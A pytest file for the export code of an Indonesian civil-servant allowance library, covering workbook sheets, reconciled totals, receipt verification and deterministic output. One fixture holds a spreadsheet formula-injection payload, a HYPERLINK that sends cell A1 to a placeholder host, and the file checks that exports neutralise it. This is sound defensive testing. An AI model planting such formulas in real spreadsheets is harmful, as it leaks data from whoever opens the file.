"""Result exports: reconciled totals, neutralised text, the same bytes for the same result."""

from __future__ import annotations

import builtins
import json
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pandas as pd
import pytest
from io_helpers import NIPS, compute, frames

from tukin import io
from tukin.dataset import Dataset
from tukin.errors import TukinError
from tukin.io.safe import neutralise

ATTACK = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'


@pytest.fixture(scope="module")
def result() -> Any:
    """The small regency with an injection attempt in a name and one rejected employee."""
    tables = frames()
    tables["employees"].loc[1, "name"] = ATTACK
    extra = pd.DataFrame(
        {"nip": ["199201012015012005"], "name": ["Eko"], "position_id": ["NOPE"], "status": ["pns"]}
    )
    tables["employees"] = pd.concat([tables["employees"], extra], ignore_index=True)
    return compute(Dataset.from_frames(**tables))


class TestWorkbook:
    def test_sheets_and_reconciled_totals(self, result: Any, tmp_path: Path):
        """Ringkasan and Rincian totals equal the receipt; Ditolak lists the rejected one."""
        out = io.write_result(result, tmp_path / "hasil.xlsx", explain_nips=[NIPS[2]])
        wb = openpyxl.load_workbook(out)
        assert wb.sheetnames == [
            *("Ringkasan", "Rincian", "Ditolak", "Kuitansi", "Penjelasan", "Aturan"),
            "_receipt_json",
        ]
        assert wb["_receipt_json"].sheet_state == "hidden"
        summary = pd.read_excel(out, sheet_name="Ringkasan")
        total = summary.iloc[-1]
        assert total["ID OPD"] == "JUMLAH"
        assert int(total["Tunjangan"]) == result.receipt.total_allowance
        assert int(total["Jumlah Pegawai"]) == result.receipt.employees_paid == 4
        assert int(total["Ditolak"]) == result.receipt.employees_rejected == 1
        rejected = pd.read_excel(out, sheet_name="Ditolak", dtype={"NIP": str})
        assert rejected["NIP"].tolist() == ["199201012015012005"]

    def test_rejected_sheet_speaks_the_workbooks_language(self, result: Any, tmp_path: Path):
        """The Indonesian Ditolak sheet said 'validation'/'calculation' (review 34): its stage
        is in Indonesian words; the English workbook and the rejected frame keep the codes,
        and the workbook still verifies against a re-run."""
        from tukin.verify import verify_receipt

        out = io.write_result(result, tmp_path / "hasil.xlsx", lang="id")
        rejected = pd.read_excel(out, sheet_name="Ditolak", dtype={"NIP": str})
        assert rejected["Tahap"].tolist() == ["validasi"]
        assert result.rejected["stage"].tolist() == ["validation"]
        en = io.write_result(result, tmp_path / "result.xlsx", lang="en")
        assert pd.read_excel(en, sheet_name="Rejected")["Stage"].tolist() == ["validation"]
        assert verify_receipt(out, result._run.dataset).ok

    def test_money_format_and_frozen_header(self, result: Any, tmp_path: Path):
        """Rupiah columns carry the Rp format; headers are frozen."""
        ws = openpyxl.load_workbook(io.write_result(result, tmp_path / "h.xlsx"))["Rincian"]
        heads = [c.value for c in ws[1]]
        col = heads.index("Tunjangan") + 1
        assert ws.cell(row=2, column=col).number_format == '"Rp"#,##0'
        assert ws.freeze_panes == "A2"

    def test_receipt_json_round_trips(self, result: Any, tmp_path: Path):
        """The hidden sheet holds the receipt as JSON for tukin verify; Kuitansi says where."""
        wb = openpyxl.load_workbook(io.write_result(result, tmp_path / "h.xlsx"))
        ws = wb["Kuitansi"]
        cell = next(r[2].value for r in ws.iter_rows(min_row=2) if r[1].value == "receipt_json")
        assert cell == "sheet tersembunyi _receipt_json (1 bagian)"
        head = [c.value for c in wb["_receipt_json"][1]]
        text = wb["_receipt_json"]["A2"].value
        assert head == ["tukin-receipt-json/2", 1, len(text)]
        assert json.loads(text) == result.receipt.model_dump()

    def test_formula_injection_is_neutralised(self, result: Any, tmp_path: Path):
        """A name starting with '=' is stored as text with a leading apostrophe."""
        ws = openpyxl.load_workbook(io.write_result(result, tmp_path / "h.xlsx"))["Rincian"]
        names = {c.value: c.data_type for c in ws["B"]}
        assert names["'" + ATTACK] == "s"
        assert not any(isinstance(v, str) and v.startswith("=") for v in names)

    def test_explanation_sheet(self, result: Any, tmp_path: Path):
        """Penjelasan shows the steps and the final amount of the chosen employee."""
        out = io.write_result(result, tmp_path / "h.xlsx", explain_nips=[NIPS[2]])
        ws = openpyxl.load_workbook(out)["Penjelasan"]
        assert NIPS[2] in ws["A1"].value
        assert [ws.cell(row=r, column=3).value for r in range(3, 7)] == [
            "dasar",
            "potongan",
            "kotor",
            "tpp",
        ]
        paid = result.to_frame().set_index("nip").loc[NIPS[2], "allowance"]
        assert ws["G1"].value == paid

    def test_explanation_sheet_keeps_the_entry_of_a_long_table_applied(self, tmp_path: Path):
        """A table of 30 amounts by NIP: the sheet showed the first 20 and nothing else, not
        the amount paid to the 25th nor that entries were left out (the explanation's text
        keeps the selected entry and says '(30 entri)', review 41)."""
        from tests.strategies import make_dataset, nip
        from tukin.calc.engine import calculate
        from tukin.ruleset.load import load_ruleset

        amounts = ", ".join(f"'{nip(i)}': {1000 * i}" for i in range(1, 31))
        rules = (
            f"name: long\nparameters:\n  per_nip: {{unit: rupiah, value: {{{amounts}}}}}\n"
            "steps:\n  - {id: tpp, type: lookup, key: nip, table: $per_nip, unit: rupiah}\n"
        )
        people = [
            {"nip": nip(i), "name": f"P{i}", "position_id": "P6A", "status": "pns"}
            for i in range(1, 31)
        ]
        res = calculate(make_dataset(people), load_ruleset(rules), "2025-03")
        for lang, word in (("id", "entri"), ("en", "entries")):
            out = io.write_result(res, tmp_path / f"{lang}.xlsx", lang=lang, explain_nips=[nip(25)])
            ws = openpyxl.load_workbook(out)["Penjelasan" if lang == "id" else "Explanations"]
            [cell] = [c.value for c in ws["F"] if str(c.value).startswith("per_nip = ")]
            assert f"{nip(25)}: 25000" in cell and f"{nip(20)}: 20000" in cell
            assert f"{nip(21)}: 21000" not in cell and f"… (30 {word})" in cell

    def test_english_labels(self, result: Any, tmp_path: Path):
        wb = openpyxl.load_workbook(io.write_result(result, tmp_path / "h.xlsx", lang="en"))
        assert wb.sheetnames == [
            "Summary",
            "Detail",
            "Rejected",
            "Receipt",
            "Rules",
            "_receipt_json",
        ]


def _opds(n: int) -> dict[str, pd.DataFrame]:
    """``n`` OPDs with one head each: a receipt whose totals per OPD fill no single cell."""
    ids = [f"DINAS-{i:04d}" for i in range(n)]
    positions = [f"J{i}" for i in range(n)]
    nips = [f"198001012005{i:06d}" for i in range(n)]
    return {
        "units": pd.DataFrame({"unit_id": ids, "name": [f"Dinas {i}" for i in range(n)]}),
        "positions": pd.DataFrame(
            {"position_id": positions, "name": "Kepala", "unit_id": ids, "kind": "jpt", "grade": 15}
        ),
        "employees": pd.DataFrame(
            {"nip": nips, "name": "X", "position_id": positions, "status": "pns"}
        ),
        "attendance": pd.DataFrame({"nip": nips, "period": "2025-10", "tl1": 0, "tk": 0}),
    }


@pytest.fixture(scope="module")
def province(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """600 OPDs written to a workbook: the receipt's JSON is past a cell's 32,767 characters."""
    dataset = Dataset.from_frames(_opds(600))
    result = compute(dataset)
    path = io.write_result(result, tmp_path_factory.mktemp("province") / "hasil.xlsx")
    return {"dataset": dataset, "result": result, "path": path}


class TestReceiptOfAnyLength:
    """A receipt longer than a cell holds goes in parts to a hidden sheet (format
    tukin-receipt-json/2) and reads back whole; verify holds every part to the re-run."""

    def _copy(self, province: dict[str, Any], tmp_path: Path) -> Path:
        path = tmp_path / "hasil.xlsx"
        path.write_bytes(province["path"].read_bytes())
        return path

    def _verify(self, path: Path, province: dict[str, Any]) -> Any:
        from tukin.verify import verify_receipt

        return verify_receipt(path, province["dataset"], lang="en")

    def test_round_trip_past_a_cell(self, province: dict[str, Any]) -> None:
        from tukin._saved import read_saved

        receipt = province["result"].receipt
        text = json.dumps(receipt.model_dump(), sort_keys=True)
        assert len(receipt.opd_totals) == 600 and len(text) > 32_767
        wb = openpyxl.load_workbook(province["path"])
        ws = wb["_receipt_json"]
        parts = [c.value for c in ws["A"][1:]]
        assert [c.value for c in ws[1]] == ["tukin-receipt-json/2", len(parts), len(text)]
        assert len(parts) >= 2 and "".join(parts) == text
        assert all(len(p) <= 30_000 and p == p.strip() for p in parts)
        longest = max(
            len(c.value)
            for w in wb
            for row in w.iter_rows()
            for c in row
            if isinstance(c.value, str)
        )
        assert longest <= 32_767
        shown = {r[1].value: r[2].value for r in wb["Kuitansi"].iter_rows(min_row=2)}
        assert shown["opd_totals"] == (
            "600 OPD: terlalu panjang untuk satu sel; jumlah per OPD ada di sheet Ringkasan"
        )
        assert read_saved(province["path"], "en").receipt_data == receipt.model_dump()
        report = self._verify(province["path"], province)
        assert report.ok and report.complete, str(report)

    def test_an_edited_part_is_caught(self, province: dict[str, Any], tmp_path: Path) -> None:
        """A total per OPD edited in the second part (still valid JSON)."""
        path = self._copy(province, tmp_path)
        wb = openpyxl.load_workbook(path)
        ws = wb["_receipt_json"]
        part = ws["A3"].value
        at = part.index('"allowance": ') + len('"allowance": ')
        ws["A3"].value = part[:at] + "1" + part[at:]
        ws["C1"].value += 1
        wb.save(path)
        report = self._verify(path, province)
        assert not report.ok
        assert any(d.field.startswith("opd_totals") for d in report.differences), str(report)

    @pytest.mark.parametrize("damage", ["row deleted", "cell cut", "count", "format"])
    def test_a_damaged_sheet_is_refused(
        self, province: dict[str, Any], tmp_path: Path, damage: str
    ) -> None:
        from tukin.errors import VerificationError

        path = self._copy(province, tmp_path)
        wb = openpyxl.load_workbook(path)
        ws = wb["_receipt_json"]
        if damage == "row deleted":
            ws.delete_rows(2)
        elif damage == "cell cut":
            ws["A2"].value = ws["A2"].value[:-10]
        elif damage == "count":
            ws["B1"].value = 5
        else:
            ws["A1"].value = "tukin-receipt-json/9"
        wb.save(path)
        with pytest.raises(VerificationError) as caught:
            self._verify(path, province)
        assert caught.value.code == "receipt_invalid"
        assert "_receipt_json" in str(caught.value)

    def test_the_shown_count_is_held_to_the_json(
        self, province: dict[str, Any], tmp_path: Path
    ) -> None:
        path = self._copy(province, tmp_path)
        wb = openpyxl.load_workbook(path)
        for row in wb["Kuitansi"].iter_rows(min_row=2):
            if row[1].value == "opd_totals":
                row[2].value = row[2].value.replace("600 OPD", "599 OPD")
        wb.save(path)
        report = self._verify(path, province)
        assert [d.field for d in report.file] == ["cell opd_totals"]

    def test_a_workbook_of_one_cell_still_verifies(self, tmp_path: Path) -> None:
        """Format 1, written before: the whole JSON in Kuitansi's receipt_json cell, no
        hidden sheet. Still read, and still held to the re-run."""
        from tukin.verify import verify_receipt

        dataset = Dataset.from_frames(frames())
        result = compute(dataset)
        path = io.write_result(result, tmp_path / "lama.xlsx")
        wb = openpyxl.load_workbook(path)
        del wb["_receipt_json"]
        text = json.dumps(result.receipt.model_dump(), sort_keys=True)
        paid = f'"employees_paid": {result.receipt.employees_paid}'
        for edit in (text, text.replace(paid, '"employees_paid": 99')):
            for row in wb["Kuitansi"].iter_rows(min_row=2):
                if row[1].value == "receipt_json":
                    row[2].value = edit
            wb.save(path)
            report = verify_receipt(path, dataset, lang="en")
            if edit == text:
                assert report.ok and report.complete, str(report)
            else:
                assert [d.field for d in report.differences] == ["employees_paid"]


@pytest.mark.parametrize("size", [1, 7, 30])
def test_receipt_parts_join_to_the_text(size: int) -> None:
    """Parts join to the text, none longer than asked; none starts or ends with a space
    unless the text has a run of spaces longer than a part (no cut can avoid it)."""
    from tukin.io.export import receipt_parts

    plain = json.dumps({"a": "x  y", "b": [1, 2, 3], "c": {"d": 4, "e": "f g"}})
    spaced = plain[:-1] + ', "h": "' + " " * 40 + '"}'
    for text in (plain, spaced):
        parts = receipt_parts(text, size)
        assert "".join(parts) == text and all(len(p) <= size for p in parts)
    if size > 1:
        assert all(p == p.strip() for p in receipt_parts(plain, size))


class TestMachineFormats:
    def test_csv_convention_and_sidecars(self, result: Any, tmp_path: Path):
        """UTF-8, comma, contract column names; receipt and rejected beside it."""
        out = io.write_result(result, tmp_path / "hasil.csv")
        text = out.read_text(encoding="utf-8")
        assert text.splitlines()[0].startswith("nip,name,status,")
        back = pd.read_csv(out, dtype={"nip": str})
        assert back["allowance"].sum() == result.receipt.total_allowance
        assert "'" + ATTACK in back["name"].tolist()
        receipt = json.loads((tmp_path / "hasil.receipt.json").read_text())
        assert receipt == result.receipt.model_dump()
        assert (tmp_path / "hasil.rejected.csv").exists()

    def test_json_document(self, result: Any, tmp_path: Path):
        """format, receipt, totals, employees and rejected; text as it is."""
        doc = json.loads(
            io.write_result(result, tmp_path / "h.json", explain_nips=[NIPS[0]]).read_text()
        )
        assert doc["format"] == "tukin-result/1"
        assert sum(e["allowance"] for e in doc["employees"]) == result.receipt.total_allowance
        assert ATTACK in [e["name"] for e in doc["employees"]]
        assert doc["explanations"][NIPS[0]]["nip"] == NIPS[0]

    def test_parquet_carries_receipt(self, result: Any, tmp_path: Path):
        pq = pytest.importorskip("pyarrow.parquet")
        table = pq.read_table(io.write_result(result, tmp_path / "h.parquet"))
        assert json.loads(table.schema.metadata[b"tukin.receipt"]) == result.receipt.model_dump()
        assert table.num_rows == 4

    def test_parquet_writes_shared_text_as_text(self, result: Any, tmp_path: Path):
        """The Result's shared text (categories in the frame) is written as plain strings:
        a schema that does not depend on how many distinct values a month has, so two
        months' files combine."""
        pa = pytest.importorskip("pyarrow")
        pq = pytest.importorskip("pyarrow.parquet")
        table = pq.read_table(io.write_result(result, tmp_path / "h.parquet"))
        for c in ("status", "position_id", "opd_id", "opd_name"):
            if c in table.column_names:
                assert pa.types.is_string(table.schema.field(c).type) or pa.types.is_large_string(
                    table.schema.field(c).type
                ), c

    def test_parquet_without_pyarrow_is_a_clear_error(
        self, result: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ):
        real = builtins.__import__

        def no_pyarrow(name: str, *args: Any, **kwargs: Any) -> Any:
            if name.startswith("pyarrow"):
                raise ImportError(name)
            return real(name, *args, **kwargs)

        monkeypatch.setattr(builtins, "__import__", no_pyarrow)
        with pytest.raises(TukinError) as err:
            io.write_result(result, tmp_path / "h.parquet")
        assert err.value.code == "missing_dependency"

    def test_unknown_suffix(self, result: Any, tmp_path: Path):
        with pytest.raises(TukinError) as err:
            io.write_result(result, tmp_path / "h.pdf")
        assert err.value.code == "output_format"


class TestDeterminism:
    @pytest.mark.parametrize("suffix", [".xlsx", ".csv", ".json", ".parquet"])
    def test_same_result_same_bytes(self, result: Any, tmp_path: Path, suffix: str):
        """Writing one result twice gives byte-identical files."""
        if suffix == ".parquet":
            pytest.importorskip("pyarrow")
        a = io.write_result(result, tmp_path / f"a{suffix}", explain_nips=[NIPS[0]]).read_bytes()
        b = io.write_result(result, tmp_path / f"b{suffix}", explain_nips=[NIPS[0]]).read_bytes()
        assert a == b

    def test_workbook_times_come_from_the_receipt(self, result: Any, tmp_path: Path):
        props = openpyxl.load_workbook(io.write_result(result, tmp_path / "h.xlsx")).properties
        assert props.modified.isoformat()[:19] == result.receipt.computed_at[:19]


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+62 812", "'+62 812"),
        ("-", "'-"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Budi", "Budi"),
        ("a=b", "a=b"),
        ("x\x00y", "x\ufffdy"),
    ],
)
def test_neutralise(text: str, safe: str):
    """Risky first characters get an apostrophe; control characters XML refuses are replaced."""
    assert neutralise(text) == safe


def test_docstring_examples_run():
    """The examples in the module docstrings are true."""
    import doctest

    import tukin.io.safe

    assert doctest.testmod(tukin.io.safe).failed == 0


class TestResultToJson:
    """A service answers with the result's JSON without a file (Result.to_json): the very
    document write_result files, valid under the published ``result`` schema."""

    def test_same_text_as_the_file(self, result: Any, tmp_path: Path) -> None:
        nip = str(result.to_frame()["nip"].iloc[0])
        path = io.write_result(result, tmp_path / "hasil.json", lang="en", explain_nips=[nip])
        text = result.to_json(lang="en", explain_nips=[nip])
        assert text == path.read_text(encoding="utf-8")
        doc = json.loads(text)
        assert doc["receipt"] == json.loads(result.receipt.model_dump_json())
        assert sum(row["allowance"] for row in doc["employees"]) == result.total
        assert doc["warnings"] == [
            {"code": w.code, "message": w.message("en")}
            for w in (*result.read_warnings, *result.warnings)
        ]

    def test_the_file_is_valid_under_the_result_schema(self, result: Any, tmp_path: Path) -> None:
        jsonschema = pytest.importorskip("jsonschema")
        referencing = pytest.importorskip("referencing")
        from tukin.schema import json_schemas

        docs = json_schemas()
        registry = referencing.Registry().with_resources(
            (d["$id"], referencing.Resource.from_contents(d)) for d in docs.values() if "$id" in d
        )
        nip = str(result.to_frame()["nip"].iloc[0])
        path = io.write_result(result, tmp_path / "hasil.json", explain_nips=[nip])
        doc = json.loads(path.read_text(encoding="utf-8"))
        # an employee rejected before the OPD could be told: the totals' row without an OPD
        assert any(row["opd_id"] is None for row in doc["totals"])
        jsonschema.Draft202012Validator(docs["result"], registry=registry).validate(doc)


class TestOpdTotals:
    """The receipt's totals per OPD: sums of int64 by the OPD's code, exact whatever the
    column's storage, with the employees of no OPD under "" and the rejected counted."""

    @pytest.mark.parametrize("as_category", [False, True])
    def test_by_code_equals_by_text(self, as_category: bool) -> None:
        from tukin.result import opd_totals

        opd = pd.Series(["B", "A", None, "B", "A", "C"], dtype="str")
        out = pd.DataFrame(
            {
                "opd_id": opd.astype("category") if as_category else opd,
                "allowance": np.array([5, 7, 11, 13, 17, 0], dtype=np.int64),
                "net": np.array([4, 6, 10, 12, 16, 0], dtype=np.int64),
            }
        )
        if as_category:  # a category nobody holds is no OPD of the receipt
            out["opd_id"] = out["opd_id"].cat.add_categories(["Z"])
        rejected = pd.DataFrame({"opd_id": ["A", None, "D"]})
        assert opd_totals(out, rejected) == {
            "": {"employees": 1, "allowance": 11, "net": 10, "rejected": 1},
            "A": {"employees": 2, "allowance": 24, "net": 22, "rejected": 1},
            "B": {"employees": 2, "allowance": 18, "net": 16, "rejected": 0},
            "C": {"employees": 1, "allowance": 0, "net": 0, "rejected": 0},
            "D": {"employees": 0, "allowance": 0, "net": 0, "rejected": 1},
        }

    def test_sums_beyond_int64_stay_exact(self) -> None:
        from tukin.result import opd_totals

        big = 2**62
        out = pd.DataFrame(
            {
                "opd_id": ["A", "A", "B"],
                "allowance": np.array([big, big, 1], dtype=np.int64),
                "net": np.array([big, big, 1], dtype=np.int64),
            }
        )
        totals = opd_totals(out, pd.DataFrame({"opd_id": []}))
        assert totals["A"]["allowance"] == 2**63 and totals["B"]["net"] == 1


@pytest.mark.parametrize("by", [None, 5, [], ["opd_id", 3]])
def test_totals_by_no_column_is_a_tukin_error(result: Any, by: Any) -> None:
    # once pandas' "No group keys passed!" or "'NoneType' object is not iterable"
    from tukin.errors import ArgumentTypeError

    with pytest.raises(ArgumentTypeError) as info:
        result.totals(by)
    assert "opd_id" in info.value.message("en") and "opd_id" in info.value.message("id")
    assert info.value.message("en") != info.value.message("id")


@pytest.mark.parametrize("fmt", ["json", "xlsx"])
def test_one_nip_to_explain_given_alone_is_that_nip(result: Any, tmp_path: Path, fmt: str) -> None:
    # a NIP given as text was read as its 18 characters: "employee 1 is not in this result"
    if fmt == "json":
        doc = json.loads(result.to_json(explain_nips=NIPS[2]))
        assert list(doc["explanations"]) == [NIPS[2]]
    else:
        out = io.write_result(result, tmp_path / "one.xlsx", explain_nips=NIPS[2])
        assert len(openpyxl.load_workbook(out).sheetnames) > 3
